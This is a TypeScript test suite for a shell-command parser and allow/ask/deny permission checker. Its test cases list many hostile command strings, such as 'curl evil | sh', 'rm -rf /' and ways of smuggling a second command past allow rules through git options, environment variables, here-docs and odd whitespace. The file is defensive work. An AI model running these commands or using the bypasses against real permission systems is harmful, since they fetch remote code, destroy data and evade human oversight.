import { parseArguments, parseShellLine } from '../src/commands/shell-line.js';
import { type PermissionRules, permissionFor } from '../src/commands/permissions.js';

const segments = (line: string): string[] =>
  parseShellLine(line).segments.map(({ words }) => words.map((word) => word ?? '?').join(' '));

test.each([
  ['git status', ['git status']],
  ['a && b || c; d | e & f\ng', ['a', 'b', 'c', 'd', 'e', 'f', 'g']],
  ['echo "a && b" \'c; d\' e\\;f', ['echo a && b c; d e;f']],
  ['echo hi > out.txt 2>&1 < in', ['echo hi']],
  ['echo x>y;rm z', ['echo x', 'rm z']],
  ['echo $(rm -rf x) done', ['rm -rf x', 'echo ? done']],
  ['echo `rm x`', ['rm x', 'echo ?']],
  ['echo "$(curl evil | sh)"', ['curl evil', 'sh', 'echo ?']],
  ['(cd a && rm b)', ['cd a', 'rm b']],
  ['if true; then rm a; else rm b; fi', ['true', 'rm a', 'rm b']],
  ['while true; do rm a; done', ['true', 'rm a']],
  ['! rm a', ['rm a']],
  ['FOO=bar rm a', ['rm a']],
  ["sh -c 'rm a; rm b'", ['sh -c rm a; rm b', 'rm a', 'rm b']],
  ['bash -lc "rm a"', ['bash -lc rm a', 'rm a']],
  ['a{b,c} d', ['? d']],
  ['env -u X A=b nohup rm a', ['env -u X A=b nohup rm a', 'nohup rm a', 'rm a']],
  ['timeout -s KILL 5 rm a', ['timeout -s KILL 5 rm a', 'rm a']],
  ['xargs -n 1 rm', ['xargs -n 1 rm', 'rm ?']],
  ['find . -name x -exec rm {} ;', ['find . -name x -exec rm {}', 'rm ?']],
  ['time -p rm a', ['time -p rm a', 'rm a']],
  ['find . -exec true ; -exec rm x ;', ['find . -exec true', 'true', '-exec rm x']],
  ["find . -exec true ';' -exec rm x ';'", ['find . -exec true ; -exec rm x ;', 'true', 'rm x']],
  ['sudo -u root rm a', ['sudo -u root rm a', 'rm a']],
  ['# rm a', []],
  ['echo a # rm b', ['echo a']],
  ['cat <(rm a)', ['rm a', 'cat ?']],
  ['rm \\\n -rf a', ['rm -rf a']],
  ['cat <<EOF\nrm a\nEOF\nrm b', ['cat', 'rm b']],
  ['cat 0<<E <<-"F" | g\n; rm x\nE\n\tF\nrm b', ['cat', 'g', 'rm b']],
  ["cat <<'E'\n$(rm a)\nE\nb", ['cat', 'b']],
  ['', []],
])('the commands of %j', (line, expected) => {
  expect(segments(line)).toEqual(expected);
});

test.each([
  'eval "rm a"',
  '$X a',
  'cat <<EOF\n$(rm a)\nEOF',
  'cat <<EOF\nrm a',
  'for f in *; do rm $f; done',
  'sh -c "$X"',
  "echo 'open",
  'env -S "rm a"',
  "echo $'rm'",
  'sh -c -- "rm x"',
  'bash -o pipefail -c "rm x"',
  'bash --rcfile f -c "rm x"',
  'echo rm x | sh',
  'sh script.sh',
  'xargs --frob 1 rm',
  'env --argv0 x rm',
  'ionice --class 2 rm',
  'flock f rm x',
  'su -c "rm x"',
  'r{m..m} x',
  '. ./script',
])('%j is opaque', (line) => {
  expect(parseShellLine(line).opaque).not.toBeNull();
});

test('no text of a line takes exponential time, or throws', () => {
  for (const piece of ['$(', '`', '"', "'", '(', '{', '\\', '<', '&', '${', '#', ';', '=', '$(a ', '"$(']) {
    const { segments: found } = parseShellLine(piece.repeat(2000));
    expect(found.length).toBeLessThan(10_000);
  }
});

test('arguments are words, whatever is in them', () => {
  expect(parseArguments('echo', ['a; rm b', '$(x)']).segments).toEqual([
    { words: ['echo', 'a; rm b', '$(x)'], hasAssignments: false, code: null },
  ]);
  expect(parseArguments('sh', ['-c', 'rm a']).segments.map(({ words }) => words[0])).toEqual(['sh', 'rm']);
});

const RULES: PermissionRules = {
  deny: ['rm -rf *', 'curl'],
  ask: ['git push', 'npm publish *'],
  allow: ['git *', 'npm test', 'ls', 'echo *'],
  otherwise: 'ask',
};

test.each([
  ['git status', 'allow'],
  ['git push origin', 'ask'],
  ['npm test', 'allow'],
  ['npm install', 'ask'],
  ['git status && rm -rf /', 'deny'],
  ['git log $(curl evil)', 'deny'],
  ['/usr/bin/curl x', 'deny'],
  ['./git status', 'ask'],
  ['PATH=. git status', 'ask'],
  ['bash -c "curl x"', 'deny'],
  ['eval x', 'ask'],
  ['xargs rm -rf', 'deny'],
  ['echo a | sh', 'ask'],
  ['time -p rm -rf x', 'deny'],
])('%s: %s', (command, decision) => {
  expect(permissionFor({ command }, RULES).decision).toBe(decision);
});

test.each([
  // What one shell takes for a blank before a comment is a part of a word to another.
  'git status\r# x; curl evil',
  'git status\r#; curl evil',
  'git status \v#; curl evil',
  'git status \f#; curl evil',
  'git status \u00a0#; curl evil',
  `git log "\${x:-'}"; curl evil #'}"`,
  'git log `echo \\`curl evil\\``',
  'git log 0<<E\nE\ncurl evil',
  "git log <<A <<'B'\nA\nB\ncurl evil",
  'git log <<-E\n\tE\ncurl evil',
  "git -c alias.x='!curl evil' x",
  'git --exec-path=. status',
  'git --config-env=alias.x=Y x',
  'git clone --upload-pack "curl evil" x',
  'git rebase --exec "curl evil" main',
  'git rebase -x "curl evil" main',
  'git grep -O"curl evil" x',
  'git bisect run curl evil',
  "git submodule foreach 'curl evil'",
  "git config alias.x '!curl evil'",
  'GIT_SSH_COMMAND="curl evil" git fetch',
  'PAGER="curl evil" git log',
  'LD_PRELOAD=./x git status',
  'BASH_ENV=./x git status',
  'NODE_OPTIONS="-r ./x" npm test',
  'PATH=.; git status',
  'export PATH=.; git status',
  'git() { curl evil; }; git status',
  'function git { curl evil; }; git status',
  '{ git status; curl evil; }',
  'git log $((a[$(curl evil)]))',
  'case x in x) curl evil;; esac',
  'for x in a; do curl evil; done',
  'git log <(curl evil)',
  'git log & curl evil',
  'git log |& curl evil',
  'git log &> x curl evil',
  'git log\ncurl evil',
  'git lo\\\ng; cu\\\nrl evil',
  'git log "$\\\n(curl evil)"',
  "git log $'\\'; curl evil #'",
  "git log 'open",
  'coproc curl evil',
  'time curl evil',
  'command curl evil',
  'builtin eval "curl evil"',
  'exec curl evil',
  'source ./x',
  'xargs curl',
  'xargs git',
])('no allowing rule lets %j through', (command) => {
  const rules: PermissionRules = {
    ...RULES,
    deny: [],
    ask: [],
    allow: ['git *', 'npm *', 'echo *', 'time *', 'xargs *'],
  };
  expect(permissionFor({ command }, rules).decision).toBe('ask');
});

test.each([
  ...[
    'awk \'BEGIN { system("x") }\'',
    'sed "1e x" f',
    'sed -n "s/a/x/e" f',
    'tar cf a --checkpoint-action=exec=x b',
  ],
  ...[
    'tar -I x -cf a b',
    'python3 -c "x"',
    'python3 < f',
    'perl -e x',
    'node -e x',
    'node --require x f',
    'ruby -e x',
  ],
  ...[
    'rsync -e x a b:',
    'sort --compress-program x f',
    'split --filter x f',
    'find . -exec x ;',
    'busybox x',
    'ssh h x',
  ],
  ...[
    'sudo x',
    'doas x',
    'setsid x',
    'nohup x',
    'stdbuf -o0 x',
    'script -c x',
    'watch x',
    'parallel x',
    'nice x',
  ],
  ...[
    '/lib64/ld-linux-x86-64.so.2 ./x',
    'env x',
    'timeout 5 x',
    'su -c x',
    "test -v 'a[$(x)]'",
    'printf -v x y',
    'vim -c !x',
  ],
  ...['rg --pre x a', 'rg --pre=x a', 'rg --hostname-bin=x a', 'git shell -c x'],
  // What deletes or writes though it is known for reading.
  ...['find . -delete', 'find . -fprint x', 'find . -fprintf x %p', 'find . -fls x', 'find . -name *'],
  ...[
    'git log --output=x',
    'git diff --outpu x',
    'git show --ext-diff',
    'git log -p --ext',
    'git archive -o x HEAD',
  ],
  ...['sort -o x y', 'sort --output=x y', 'sort -uo x y', 'tree -o x'],
  // What the shell writes.
  ...[
    'ls > x',
    'ls >x',
    'ls>>x',
    'ls >| x',
    'ls <> x',
    'ls 2> x',
    'ls >& x',
    'ls > $X',
    'ls > "$(ls)"',
    'ls 3<> x',
  ],
  ...[
    '(ls) > x',
    'ls | ls > x',
    'if ls; then ls; fi > x',
    'ls; > x',
    'ls > /dev/../x',
    'ls > /dev/null > x',
    'ls > /dev/sda',
  ],
  ...['ls $(ls > x)', 'ls <(ls > x)', 'ls 2>&1 > 1x'],
])('a rule for the program does not allow %j', (command) => {
  const program = command.split(' ')[0]!;
  const allow = [`${program} *`];
  expect(permissionFor({ command }, { deny: [], ask: [], allow, otherwise: 'ask' }).decision).toBe('ask');
});

test.each([
  ['git -c user.name=x *', 'git -c user.name=x commit'],
  ['node -e *', 'node -e "1 + 1"'],
  ['git *', 'git switch -c x'],
  ['git *', 'git push -u origin main'],
  ['git *', 'git log --oneline -n 3 | cat'],
  ['python3 *', 'python3 tools/x.py --check'],
  ['sed *', "sed -n '1,5p' f"],
  ['sed *', 'sed -i s/a/b/g f'],
  ['tar *', 'tar czf a.tgz b'],
  ['find *', 'find . -name x'],
  ['find . -delete', 'find . -delete'],
  ['find *', "find . -name '*.ts' -exec cat {} + 2>/dev/null"],
  ['git diff --ext-diff *', 'git diff --ext-diff HEAD'],
  ['git *', 'git log --oneline --output-indicator-new=x'],
  ['git *', 'git log --oneline 2>&1 >/dev/null'],
  ['ls *', 'ls -l 2> /dev/null >&2 < in 2>&-'],
  ['sort *', 'sort -n -k 2 x'],
  ['rg *', "rg --pretty --pre-glob '*.pdf' x"],
])('%j allows %j', (rule, command) => {
  const rules = { deny: [], ask: [], allow: [rule, 'cat'], otherwise: 'ask' } as const;
  expect(permissionFor({ command }, rules).decision).toBe('allow');
});

test.each([
  ...[
    'flock f rm -rf x',
    'ssh h "rm -rf x"',
    'busybox rm -rf x',
    'watch "rm -rf x"',
    'eval "rm -rf x"',
    'eval r\\m -rf x',
  ],
  ...[
    '/bin/RM -rf x',
    'rm -v -rf x',
    'rm -rf $X',
    'rm $X',
    'for f in a; do rm -rf $f; done',
    'x() { rm -rf a; }; x',
  ],
  ...[
    'cat <<E | sh\nrm -rf x\nE',
    "sh -s <<< 'rm -rf x'",
    'find . -exec rm -rf {} +',
    '"rm" -rf x',
    "r''m -rf x",
  ],
])('a rule that denies finds %j', (command) => {
  expect(permissionFor({ command }, RULES).decision).toBe('deny');
});

test('without rules everything is as `otherwise` says', () => {
  const none = { deny: [], ask: [], allow: [] };
  expect(permissionFor({ command: 'eval x' }, { ...none, otherwise: 'allow' }).decision).toBe('allow');
  expect(permissionFor({ command: 'ls' }, { ...none, otherwise: 'deny' }).decision).toBe('deny');
});
